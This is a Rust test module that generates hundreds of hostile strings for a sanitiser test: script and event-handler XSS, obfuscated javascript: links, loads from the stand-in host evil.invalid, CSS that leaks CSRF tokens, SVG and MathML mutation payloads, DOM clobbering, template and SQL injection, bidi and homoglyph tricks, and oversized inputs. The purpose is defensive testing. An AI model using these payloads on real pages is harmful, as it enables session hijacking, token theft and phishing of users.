//! Hostile texts: what an agent could write to take over the page that shows it.
//!
//! Made by families, each its own idea of how text turns into something else. What would run sets
//! `window.__pwned` or opens a dialog; what would load asks `http://evil.invalid/`; what would only
//! break the page is wide, deep or upside down. None is longer than an argument may be.

/// What a script would do.
const ACT: &str = "window.__pwned=1";

/// An address that nothing may ever ask for.
const EVIL: &str = "http://evil.invalid";

/// Every payload. None is blank or holds U+0000, and each fits into an argument of 10,000 bytes.
pub(crate) fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    for family in [
        scripts,
        handlers,
        links,
        obfuscated_links,
        remote,
        vector_graphics,
        formulas,
        styles,
        forms,
        frames,
        broken_nesting,
        markdown,
        clobbering,
        own_site,
        templates,
        giants,
        hidden,
        mentions,
    ] {
        all.extend(family());
    }
    // The same again from within: where text of one kind is put into markup of another.
    let inner: Vec<String> = all.iter().filter(|text| text.len() < 300).cloned().collect();
    for (number, text) in inner.iter().enumerate() {
        let line = text.replace('\n', " ");
        all.push(match number % 8 {
            0 => format!("> - {line}"),
            1 => format!("| a | b |\n|---|---|\n| {} | x |", line.replace('|', "\\|")),
            2 => format!("# {line}\n\n{text}"),
            3 => format!("[{line}]({EVIL}/{number})"),
            4 => format!("![{line}]({EVIL}/{number}.png \"{line}\")"),
            5 => format!("```{line}\n{text}\n```"),
            6 => format!("`{line}` **{line}** ~~{line}~~"),
            _ => format!("- [x] {line}\n- [ ] <b>{line}"),
        });
    }
    all.retain(|text| text.len() <= 10_000);
    all
}

fn scripts() -> Vec<String> {
    let mut found = Vec::new();
    for (open, close) in [
        ("<script>", "</script>"),
        ("<SCRIPT>", "</SCRIPT>"),
        ("<ScRiPt\n>", "</sCrIpT\t>"),
        ("<script/x>", "</script/x>"),
        ("<script type=module>", "</script>"),
        ("<script defer nonce=\"\">", "</script>"),
        ("<scr<script>ipt>", "</scr</script>ipt>"),
        ("<<script>", "<</script>"),
        ("<\u{ff53}cript>", "</\u{ff53}cript>"),
        ("<svg><script>", "</script></svg>"),
        ("<!--><script>", "</script><!---->"),
        ("<!--\n--!><script>", "</script>"),
        ("<![CDATA[<script>", "</script>]]>"),
        ("<?xml <script>", "</script>?>"),
        ("</title><script>", "</script>"),
        ("</textarea><script>", "</script>"),
        ("</style></script><script>", "</script>"),
        ("&lt;script&gt;", "&lt;/script&gt;"),
        ("&#60;script&#62;", "&#60;/script&#62;"),
        ("\\<script\\>", "\\</script\\>"),
    ] {
        found.push(format!("{open}{ACT}{close}"));
        found.push(format!("text {open}alert(1){close} text"));
    }
    found.push(format!("<script src={EVIL}/a.js></script>"));
    found.push("<script src=\"//evil.invalid/b.js\" async></script>".to_owned());
    found.push(format!("<script>import('{EVIL}/c.mjs')</script>"));
    found.push(format!(
        "<script type=importmap>{{\"imports\":{{\"x\":\"{EVIL}/d.mjs\"}}}}</script>"
    ));
    found.push(format!("<script>{ACT}"));
    found
}

fn handlers() -> Vec<String> {
    let mut found = Vec::new();
    let quoted = [format!("\"{ACT}\""), format!("'{ACT}'"), "alert`1`".to_owned()];
    for (number, (tag, event)) in [
        ("img src=x", "onerror"),
        ("img src=x srcset=y", "ONERROR"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("input autofocus", "onfocus"),
        ("input type=checkbox checked", "onchange"),
        ("details open", "ontoggle"),
        ("video src=x", "onerror"),
        ("video autoplay src=x", "onloadstart"),
        ("audio src=x", "onerror"),
        ("marquee", "onstart"),
        ("div tabindex=0 autofocus", "onfocusin"),
        ("div style='animation-name:x'", "onanimationstart"),
        ("div popover id=p", "onbeforetoggle"),
        ("p", "onpointerenter"),
        ("a href=#", "onclick"),
        ("table", "onmouseover"),
        ("td", "onwheel"),
        ("pre class=code", "onscroll"),
        ("span class=control", "oncopy"),
        ("button", "onclick"),
        ("form", "onsubmit"),
        ("dialog open", "onclose"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("object data=x", "onerror"),
        ("embed src=x", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("style", "onload"),
        ("iframe", "onload"),
        ("x-y contenteditable", "onbeforeinput"),
        ("isindex type=image src=1", "onerror"),
    ]
    .into_iter()
    .enumerate()
    {
        let code = &quoted[number % quoted.len()];
        found.push(format!("<{tag} {event}={code}>"));
        // Without spaces, with a slash, with a line break, unclosed.
        let odd = match number % 4 {
            0 => format!("<{}/{event}={code}>", tag.replace(' ', "/")),
            1 => {
                format!("<{tag}\n{event}\n=\n{code}\n>x</{}>", tag.split(' ').next().unwrap_or(tag))
            }
            2 => format!("<{tag} {event}={code}"),
            _ => format!("<{tag} x=\"\"\"{event}={code}//\">"),
        };
        found.push(odd);
    }
    found
}

/// Links of every Markdown form, to addresses that run or load something.
fn links() -> Vec<String> {
    let addresses = [
        format!("javascript:{ACT}"),
        "JaVaScRiPt:alert(1)".to_owned(),
        "javascript://evil.invalid/%0aalert(1)".to_owned(),
        format!("data:text/html,<script>{ACT}</script>"),
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==".to_owned(),
        "data:image/svg+xml,<svg/onload=alert(1)>".to_owned(),
        "vbscript:msgbox(1)".to_owned(),
        "blob:http://evil.invalid/1".to_owned(),
        "file:///etc/passwd".to_owned(),
        "view-source:http://evil.invalid/".to_owned(),
        "jar:http://evil.invalid/a.jar!/b".to_owned(),
        "intent://evil.invalid/#Intent;scheme=http;end".to_owned(),
    ];
    let mut found = Vec::new();
    for (number, address) in addresses.iter().enumerate() {
        found.push(format!("[click]({address})"));
        found.push(format!("[click](<{address}> \"x\")"));
        found.push(format!("<{address}>"));
        found.push(format!("[click][{number}]\n\n[{number}]: <{address}> 'title'"));
        found.push(format!("![picture]({address})"));
        found.push(format!("<a href=\"{address}\">click</a>"));
    }
    found
}

/// The same scheme in disguises that browsers see through.
fn obfuscated_links() -> Vec<String> {
    [
        "java\tscript:",
        "java\\\nscript:",
        "java&Tab;script:",
        "java&NewLine;script&colon;",
        "&#106;avascript:",
        "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:",
        "&#0000106avascript:",
        "%6A%61vascript:",
        "javascript&colon;",
        "javascript&#58;",
        "javascript\u{200B}:",
        "\u{1}javascript:",
        "\u{A0}javascript:",
        "\u{FEFF}javascript:",
        "\u{202E}:tpircsavaj",
        "feed:javascript:",
        "x:javascript:",
        "javascript\\:",
        "j\u{430}vascript:",
    ]
    .iter()
    .flat_map(|scheme| {
        [
            format!("[a]({scheme}{ACT})"),
            format!("<a href='{scheme}alert(1)'>a</a> [b](<{scheme}alert(1)>)"),
        ]
    })
    .collect()
}

/// What would be fetched as soon as it is shown.
fn remote() -> Vec<String> {
    let mut found = vec![
        format!("![pixel]({EVIL}/pixel.png)"),
        format!("![]({EVIL}/pixel.png)"),
        format!("![pixel][p]\n\n[p]: {EVIL}/ref.png"),
        format!("[![badge]({EVIL}/badge.svg)]({EVIL}/)"),
        "![x](//evil.invalid/relative.png)".to_owned(),
        "![x](\\\\\\\\evil.invalid\\\\share)".to_owned(),
        format!("![![inner]({EVIL}/i.png)]({EVIL}/o.png)"),
        format!("[[x]({EVIL}/1)]({EVIL}/2)"),
    ];
    for tag in [
        "img src",
        "img srcset",
        "image src",
        "input type=image src",
        "video poster",
        "video src",
        "audio src",
        "source src",
        "track default src",
        "embed src",
        "object data",
        "iframe src",
        "frame src",
        "script src",
        "body background",
        "table background",
        "td background",
        "link rel=stylesheet href",
        "link rel=prefetch href",
        "link rel=preconnect href",
        "link rel=dns-prefetch href",
        "link rel=icon href",
        "link rel=manifest href",
        "link rel=modulepreload href",
        "meta http-equiv=refresh content",
        "base href",
        "portal src",
        "applet archive",
        "bgsound src",
        "html manifest",
        "xml src",
        "a ping",
        "picture><source srcset",
        "layer src",
        "fencedframe src",
    ] {
        found.push(format!("<{tag}=\"{EVIL}/{}\">", found.len()));
    }
    found.push(format!("<meta http-equiv=\"refresh\" content=\"0;url={EVIL}/r\">"));
    found.push("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">".to_owned());
    found
}

fn vector_graphics() -> Vec<String> {
    let insides = [
        format!("<script>{ACT}</script>"),
        format!("<script href='{EVIL}/s.js'/>"),
        format!("<image href='{EVIL}/i.svg'/>"),
        format!("<use href='{EVIL}/u.svg#x'/>"),
        "<use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/>".to_owned(),
        "<a xlink:href='javascript:alert(1)'><text y=20>click</text></a>".to_owned(),
        "<animate attributeName=href values='javascript:alert(1)'/>".to_owned(),
        "<set attributeName=onmouseover to=alert(1) />".to_owned(),
        format!("<animate onbegin={ACT} attributeName=x dur=1s>"),
        format!("<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{ACT}'/></foreignObject>"),
        format!("<style>@import '{EVIL}/s.css';</style>"),
        format!("<filter><feImage href='{EVIL}/f.png'/></filter>"),
        "<desc><![CDATA[</desc><script>alert(1)</script>]]></desc>".to_owned(),
        "<title><a id='</title><img src=x onerror=alert(1)>'></title>".to_owned(),
        "<p><style><!--</style><img src=x onerror=alert(1)>--></style>".to_owned(),
        "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>alert(1)</handler>".to_owned(),
    ];
    let mut found: Vec<String> = insides
        .iter()
        .map(|inside| format!("<svg xmlns='http://www.w3.org/2000/svg'>{inside}</svg>"))
        .collect();
    found.extend(
        ["<svg/onload=alert(1)>", "<svg onload=alert(1)//", "<svg><g onload=alert(1)></g></svg>"]
            .map(String::from),
    );
    found
}

fn formulas() -> Vec<String> {
    [
        "<mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<mi xlink:href='javascript:alert(1)'>x</mi>",
        "<maction actiontype='statusline#http://evil.invalid/' xlink:href='javascript:alert(1)'>x</maction>",
        "<annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml>",
        "<annotation-xml encoding='text/html'><svg onload=alert(1)></annotation-xml>",
        "<mglyph src='http://evil.invalid/g.png'/>",
        "<mrow style='background:url(http://evil.invalid/m)'>x</mrow>",
        "<a href='javascript:alert(1)'>x</a>",
        "<mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<semantics><annotation-xml><foreignObject><img src=x onerror=alert(1)>",
    ]
    .iter()
    .map(|inside| format!("<math>{inside}</math>"))
    .collect()
}

fn styles() -> Vec<String> {
    let mut found = vec![
        format!("<style>@import url({EVIL}/a.css);</style>"),
        format!("<style>body{{background:url({EVIL}/b)}}</style>"),
        format!("<style>@font-face{{font-family:x;src:url({EVIL}/f)}}*{{font-family:x}}</style>"),
        format!("<style>input[name=csrf][value^=a]{{background:url({EVIL}/a)}}</style>"),
        "<style>*{display:none!important}</style>".to_owned(),
        "<style></style><img src=x onerror=alert(1)></style>".to_owned(),
        "<link rel=stylesheet href=data:text/css,*{display:none}>".to_owned(),
    ];
    for style in [
        "position:fixed;inset:0;z-index:99999;background:red".to_owned(),
        "width:99999px;height:99999px;display:block".to_owned(),
        format!("background-image:url('{EVIL}/s')"),
        "width:expression(alert(1))".to_owned(),
        "-moz-binding:url(http://evil.invalid/x.xml#x)".to_owned(),
        "behavior:url(http://evil.invalid/x.htc)".to_owned(),
        "margin-left:-9999px".to_owned(),
        "font-size:500px".to_owned(),
        "\\62 ackground:u\\72l(http://evil.invalid/e)".to_owned(),
        "white-space:nowrap".to_owned(),
    ] {
        found.push(format!("<div style=\"{style}\">styled</div>"));
        found.push(format!("**<span style=\"{style}\">styled</span>**"));
    }
    found
}

fn forms() -> Vec<String> {
    [
        "<form action=/debate/1/delete method=post><button>Next</button></form>",
        "<form action=http://evil.invalid/><input name=token><button autofocus>Sign in again</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<input type=submit formaction=http://evil.invalid/ form=ruling value=Send>",
        "</form><form action=http://evil.invalid/>",
        "<form id=ruling><input name=attributes><input name=parentNode></form>",
        "<input type=hidden name=csrf value=mine form=ruling>",
        "<textarea name=content form=ruling>my ruling</textarea>",
        "<textarea>",
        "<select><option>",
        "<keygen autofocus onfocus=alert(1)>",
        "<label for=delete>Click here to go on</label>",
        "- [x] <input type=checkbox onclick=alert(1)>",
        "- [ ](javascript:alert(1))",
        "- [x]\n- [ ]\n- [X] <script>alert(1)</script>",
    ]
    .map(String::from)
    .to_vec()
}

fn frames() -> Vec<String> {
    let mut found = vec![
        "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>".to_owned(),
        "<iframe src=\"javascript:parent.__pwned=1\"></iframe>".to_owned(),
        format!("<iframe src={EVIL}/ width=5000 height=5000></iframe>"),
        "<frameset onload=alert(1)><frame src=x></frameset>".to_owned(),
        "<object data=\"javascript:alert(1)\"></object>".to_owned(),
        format!("<object type=text/html data={EVIL}/></object>"),
        "<embed src=javascript:alert(1)>".to_owned(),
        "<noframes><img src=x onerror=alert(1)></noframes>".to_owned(),
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>".to_owned(),
        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>".to_owned(),
        "<plaintext>everything after this is text".to_owned(),
        "<template><script>alert(1)</script></template>".to_owned(),
        "<template shadowrootmode=open><style>*{display:none}</style><img src=x onerror=alert(1)></template>".to_owned(),
    ];
    found.push(
        "<dialog open>You were signed out. <a href=http://evil.invalid/>Sign in</a></dialog>"
            .to_owned(),
    );
    found.push("<div popover=manual id=x>x</div><button popovertarget=x>y</button>".to_owned());
    found
}

/// Markup that closes what it did not open, or never closes what it did.
fn broken_nesting() -> Vec<String> {
    let mut found: Vec<String> = [
        "</div></article></main></body></html><script>alert(1)</script>",
        "</li></ol></ul></blockquote></td></tr></table><img src=x onerror=alert(1)>",
        "</code></pre><script>alert(1)</script>",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "````html\n```\n</code></pre><img src=x onerror=alert(1)>\n```\n````",
        "`</code><script>alert(1)</script>`",
        "``` \"><script>alert(1)</script>\nx\n```",
        "```rust\" onmouseover=\"alert(1)\nfn x() {}\n```",
        "~~~ <img src=x onerror=alert(1)>\nx\n~~~",
        "    </pre><script>alert(1)</script>",
        "<b><i><u></b></i></u><script>alert(1)</script>",
        "<table><tr><td><table><tr><script>alert(1)</script>",
        "<p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<a href=\"http://x\" title='\"><img src=x onerror=alert(1)>'>y</a>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "<img src='x'onerror='alert(1)'",
        "<div id=\"x\ny\" class=\"<script>alert(1)</script>\">",
        "<!-- open comment <img src=x onerror=alert(1)>",
        "<!--> <img src=x onerror=alert(1)> -->",
        "<!---><img src=x onerror=alert(1)>",
        "<? echo '<img src=x onerror=alert(1)>'",
        "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
        "<a <b <c <img src=x onerror=alert(1)>",
        "**bold *both** italic* ~~**x~~** <b>**y</b>**",
        "> quote\n</blockquote><script>alert(1)</script>",
        "| a | <script>alert(1)\n|---|---\n| </script> | </td></table><img src=x onerror=alert(1)>",
        "[link <b](http://evil.invalid/) onmouseover=alert(1)>x</b>",
        "*<img src=x onerror=*alert(1)*>*",
    ]
    .map(String::from)
    .to_vec();
    found.push("<div>".repeat(1500));
    found.push("</div>".repeat(1500));
    found.push("<b>".repeat(3000));
    found.push("<table><tr><td>".repeat(600));
    found.push("<svg><math>".repeat(800));
    found
}

/// What the Markdown parser itself could be talked into.
fn markdown() -> Vec<String> {
    let mut found = vec![
        format!("[a]({EVIL}/ \"\\\" onmouseover=\\\"{ACT}\")"),
        format!("[a]({EVIL}/\"onmouseover=\"alert(1))"),
        format!("[a](<{EVIL}/ onmouseover=alert(1)>)"),
        format!("[a]({EVIL}/'onclick='alert(1)' \"x\")"),
        format!("![\"onerror=\"alert(1)]({EVIL}/x.png)"),
        format!("<{EVIL}/\"onclick=alert(1)//>"),
        format!("{EVIL}/\"onclick=\"alert(1)"),
        format!("{EVIL}/<script>alert(1)</script>"),
        "www.evil.invalid/\"><script>alert(1)</script>".to_owned(),
        "x@evil.invalid\"><script>alert(1)</script>".to_owned(),
        "mailto:x@evil.invalid?subject=<script>alert(1)</script>".to_owned(),
        format!("[https://github.com]({EVIL}/)"),
        format!("[www.github.com/login]({EVIL}/login)"),
        format!("[](  {EVIL}/)"),
        format!("[\u{200B}]({EVIL}/)"),
        format!("[https://github.com\u{2060}](https://github.com@evil.invalid/)"),
        "[x](https://github.com%2F@evil.invalid)".to_owned(),
        format!("[a]: javascript:alert(1)\n[A]: {EVIL}/\n\n[a] [A] [a][] ![a]"),
        "[^1]\n\n[^1]: <script>alert(1)</script>".to_owned(),
        "# <img src=x onerror=alert(1)> {#id .class onclick=alert(1)}".to_owned(),
        "Title<script>alert(1)</script>\n=====".to_owned(),
        "$$\\href{javascript:alert(1)}{x}$$ $\\unicode{<img src=x onerror=alert(1)>}$".to_owned(),
        ":::html\n<script>alert(1)</script>\n:::".to_owned(),
        "---\ntitle: <script>alert(1)</script>\n---\n".to_owned(),
        "!!! <script>alert(1)</script>".to_owned(),
        "[[javascript:alert(1)|x]]".to_owned(),
        "> [!NOTE] <script>alert(1)</script>".to_owned(),
        "<br onmouseover=alert(1)>".to_owned(),
        "<br/onload=alert(1)>".to_owned(),
        "<br ><br/><br />< br>".to_owned(),
        "&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt;".to_owned(),
        "\\![x](javascript:alert(1)) \\[x](javascript:alert(1))".to_owned(),
        "[a](javascript:alert&#40;1&#41;) [b](javascript&colon;alert&lpar;1&rpar;)".to_owned(),
        format!("[a\n\nb]({EVIL}/)\n[c](\n{EVIL}/d\n)"),
        format!("<a href={EVIL}/><b>[x](javascript:alert(1))</b></a>"),
        "*".repeat(4000),
        "**a ".repeat(2400),
        "_a__b_".repeat(1600),
        "[".repeat(9000),
        "[a](".repeat(2400),
        "![".repeat(4500),
        "`a``b```".repeat(1100),
        "<".repeat(9000),
        "&#x".repeat(3000),
        "~~a".repeat(3000),
    ];
    found.push(format!("[x]: {EVIL}/{}\n\n{}", "long".repeat(1000), "[x] ".repeat(1400)));
    found
}

/// Names that would stand for the page's own.
fn clobbering() -> Vec<String> {
    ["body", "cookie", "forms", "ruling", "csrf", "location", "a-1", "__proto__", "defaultView"]
        .iter()
        .flat_map(|name| {
            [
                format!("<a id={name}><a id={name} name=action href=javascript:alert(1)>"),
                format!("<img name={name} id={name}>\n\n# {name}\n\n[{name}](#{name})"),
            ]
        })
        .collect()
}

/// Links that would do something here.
fn own_site() -> Vec<String> {
    [
        "/debate/1/delete",
        "/preferences?theme=dark",
        "/sign-out",
        "//evil.invalid/x",
        "/\\evil.invalid",
        "\\\\evil.invalid",
        "?page=2",
        "#a-1",
        "#",
        "./new",
        "../../new",
        "new",
        "http:/new",
        "http:new",
        "https:new",
        "http:///new",
        "http://127.0.0.1:8720/new",
        "http://localhost:8720/sign-out",
        "http://[::1]/new",
        "http://0x7f000001/",
        "HTTP://LocalHost/",
        "/doc/x?version=1",
        "/doc/0c5a44a3-42f6-4787-aa53-c5963099fa65?version=1&delete=1",
        "/doc/0c5a44a3-42f6-4787-aa53-c5963099fa65/../../new?version=1",
        "ws://evil.invalid/",
        "ftp://evil.invalid/",
        "tel:1",
        "sms:1",
        "about:blank",
        ":",
    ]
    .iter()
    .map(|address| format!("[innocent]({address}) <{address}> ![picture]({address})"))
    .collect()
}

/// What templates, scripts and other languages would take for their own.
fn templates() -> Vec<String> {
    [
        "{{constructor.constructor('alert(1)')()}}",
        "{{ 7*7 }} {% raw %} {% endraw %} {# x #}",
        "${alert(1)} `${alert(1)}` #{alert(1)}",
        "<%= alert(1) %> <?php system('id') ?>",
        "'-alert(1)-' \"-alert(1)-\" `-alert(1)-`",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "</script><script>alert(1)</script>",
        "\"});alert(1);//",
        "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=alert(1)>\"}}",
        "\u{2028}alert(1)\u{2029}",
        "data-x=\"\" onload=alert(1)",
        "<x ng-app ng-csp>{{$new.constructor('alert(1)')()}}</x>",
        "<div v-html=\"'<img src=x onerror=alert(1)>'\" x-data x-init=alert(1) hx-get=http://evil.invalid/ hx-trigger=load>",
        "'; drop table debates; --",
        "\u{1B}[2J\u{1B}]8;;http://evil.invalid/\u{7}x\u{1B}]8;;\u{7}",
        "event: message\ndata: <script>alert(1)</script>\n\n",
        "=HYPERLINK(\"http://evil.invalid/\")",
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    ]
    .map(String::from)
    .to_vec()
}

/// What would push the page apart.
fn giants() -> Vec<String> {
    let mut found = vec![
        format!("|{}\n|{}\n|{}", "h|".repeat(500), "-|".repeat(500), "wide cell|".repeat(400)),
        format!("|{}\n|{}\n{}", "h|".repeat(200), "-|".repeat(200), "|\n".repeat(4000)),
        format!("|a|b|\n|-|-|\n{}", "|x|y|\n".repeat(1500)),
        format!("|a|\n|-|\n|{}|", "W".repeat(8000)),
        ">".repeat(5000) + " deep",
        "> ".repeat(4000) + "deep",
        "- ".repeat(4000) + "deep",
        "1. ".repeat(3000) + "deep",
        (0..90).map(|depth| format!("{}- {depth}\n", "  ".repeat(depth))).collect(),
        "> - ".repeat(2000) + "deep",
        "W".repeat(9500),
        format!("`{}`", "W".repeat(9000)),
        format!("```\n{}\n```", "W".repeat(9000)),
        format!("    {}", "W".repeat(9000)),
        format!("# {}", "W".repeat(9000)),
        format!("<{EVIL}/{}>", "w".repeat(9000)),
        format!("[x](http://a.b/{} 'y')", "%20".repeat(3000)),
        format!("![{}](data:image/png;base64,{})", "W".repeat(3000), "A".repeat(6000)),
        format!("999999999. {}", "W".repeat(5000)),
        format!("- [x] {}", "W".repeat(9000)),
        format!("doc_id={}", "0c5a44a3-42f6-4787-aa53-c5963099fa65".repeat(200)),
        "\u{FDFD}".repeat(3000),
        "𒐫".repeat(2000),
        "\u{A0}".repeat(4000) + "x",
        "\u{2003}".repeat(3000) + "x",
        "\t".repeat(5000) + "x",
        "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{30A}".repeat(450),
        "a".to_owned() + &"\u{489}".repeat(4000),
        "x\n\n".repeat(3000),
        "\\\n".repeat(4500),
        "# #\n".repeat(2000),
        "---\n\n".repeat(1900),
        format!("<table width=99999>{}</table>", "<td>".repeat(2000)),
    ];
    found.push(format!("<pre style='white-space:pre'>{}</pre>", "W".repeat(9000)));
    found
}

/// What reads differently from what it is.
fn hidden() -> Vec<String> {
    let mut found: Vec<String> = ('\u{202A}'..='\u{202E}')
        .chain('\u{2066}'..='\u{2069}')
        .chain([
            '\u{200B}', '\u{200E}', '\u{200F}', '\u{61C}', '\u{AD}', '\u{2060}', '\u{FEFF}',
            '\u{180E}',
        ])
        .map(|c| format!("approve{c}the {c}plan `code{c}x` **bold{c}** [link{c}]({EVIL}/{c})"))
        .collect();
    found.extend([
        "if (level != \"user\u{202E} \u{2066}// admin only\u{2069} \u{2066}\") {".to_owned(),
        "```c\n/*\u{202E} } \u{2066}if (admin)\u{2069} \u{2066} begin */\n```".to_owned(),
        format!("[moc.buhtig//:sptth\u{202E}]({EVIL}/)"),
        "\u{202E}".repeat(3000),
        "\u{200B}\u{200C}\u{200D}".repeat(1000),
        "yes\u{E0041}\u{E0042}\u{E0043} no".to_owned(),
        "x\u{FE0F}\u{FE01}\u{E0100}\u{E0101}".to_owned(),
        "p\u{430}ypal \u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}".to_owned(),
        "\u{3164}\u{115F}\u{FFA0}".to_owned() + "blank",
        "a\u{8}\u{8}\u{7F}b\u{C}c\u{B}d".to_owned(),
        "שלום <b>עולם</b> (abc) [https://github.com](http://evil.invalid/)".to_owned(),
        "a\u{FFF9}b\u{FFFA}c\u{FFFB}d\u{2028}e\u{2029}f\u{85}g".to_owned(),
    ]);
    found
}

/// Ids of documents with something in tow.
fn mentions() -> Vec<String> {
    let id = "0c5a44a3-42f6-4787-aa53-c5963099fa65";
    vec![
        format!("doc_id={id}\"onclick=\"alert(1) (v1)"),
        format!("<a href=doc_id={id} onclick=alert(1)>x</a>"),
        format!("[doc_id={id} (v2)](javascript:alert(1))"),
        format!("[doc_id={id} (v2)]({EVIL}/)"),
        format!("![doc_id={id}]({EVIL}/{id}.png)"),
        format!("`doc_id={id}` ``{id}`<script>alert(1)</script>``"),
        format!("[x](/doc/{id}?version=2)"),
        format!("doc_id={}", id.to_uppercase()),
        format!("<{id}><script>alert(1)</script>"),
        format!("# {id}\n\n|{id}|\n|-|\n|{id}|"),
    ]
}
